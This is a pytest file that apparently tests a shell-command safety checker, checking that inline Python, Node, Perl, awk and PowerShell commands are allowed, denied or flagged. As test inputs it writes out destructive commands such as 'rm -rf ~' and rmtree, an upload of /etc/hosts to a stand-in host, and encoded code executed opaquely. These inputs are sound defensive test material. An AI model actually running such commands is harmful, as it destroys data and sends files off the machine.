"""Inline code: Python parsed with ast; other languages read for known calls; the rest is opaque."""

from __future__ import annotations

import pytest

from tests.conftest import effects, resources, shell


@pytest.mark.parametrize("command", [
    "python -c 'print(1 + 1)'",
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])' < data.json",
    "python -m pytest -q",
    "python -m http.server 8000",
    "node -e 'console.log(process.version)'",
    "perl -ne 'print if /error/' app.log",
    "ruby -e 'puts [1,2,3].sum'",
    "php -r 'echo 1+1;'",
    "awk -F, '{ s += $3 } END { print s }' sales.csv",
])
def test_computing_and_printing_is_allowed(command: str) -> None:
    assert shell(command).decision == "allow", shell(command).reasons


def test_python_deletion_is_an_fs_effect() -> None:
    verdict = shell("python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'")
    assert resources(verdict, "delete") == {"fs:/srv/data"}


def test_python_aliases_and_from_imports() -> None:
    verdict = shell("python3 -c 'from shutil import rmtree as r; r(\"/srv/x\")'")
    assert "fs:/srv/x" in resources(verdict, "delete")


def test_python_pathlib_unlink() -> None:
    verdict = shell("python3 -c 'from pathlib import Path; Path(\"/srv/y.txt\").unlink()'")
    assert "fs:/srv/y.txt" in resources(verdict, "delete")


def test_python_shell_strings_are_understood_again() -> None:
    verdict = shell("python3 -c \"import subprocess; subprocess.run('kubectl get pods | head', shell=True)\"")
    assert verdict.decision == "allow"
    verdict = shell("python3 -c \"import os; os.system('rm -rf ~')\"")
    assert verdict.decision == "deny"


def test_python_upload_is_exfiltration() -> None:
    verdict = shell("python3 -c \"import requests; requests.post('https://x.example/u', data=open('/etc/hosts').read())\"")
    assert effects(verdict, "exfiltrate")
    assert verdict.decision == "ask"


def test_python_dynamic_code_is_opaque() -> None:
    verdict = shell("python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"")
    assert effects(verdict, "execute_opaque")


def test_python_syntax_error_is_not_allowed() -> None:
    assert shell("python3 -c 'def ('").decision == "ask"


def test_other_languages_with_io_are_opaque_unless_a_call_is_read() -> None:
    assert shell("node -e \"require('fs').writeFileSync('/srv/x', 'y')\"").decision == "ask"
    assert "fs:/srv/gone" in resources(shell("node -e \"require('fs').rmSync('/srv/gone', {recursive: true})\""),
                                       "delete")


def test_perl_in_place_edit_modifies_files() -> None:
    verdict = shell("perl -pi -e 's/foo/bar/' /etc/nginx/nginx.conf")
    assert any(e.resource == "fs:/etc/nginx/nginx.conf" for e in effects(verdict, "modify"))


def test_awk_redirect_and_system() -> None:
    assert "fs:/srv/awk" in resources(shell("awk 'BEGIN { system(\"rm -rf /srv/awk\") }'"), "delete")
    verdict = shell("awk '{ print > \"/etc/motd\" }' in.txt")
    assert verdict.decision == "deny"


def test_encoded_powershell_is_opaque() -> None:
    assert effects(shell("pwsh -EncodedCommand SQBFAFgA"), "execute_opaque")
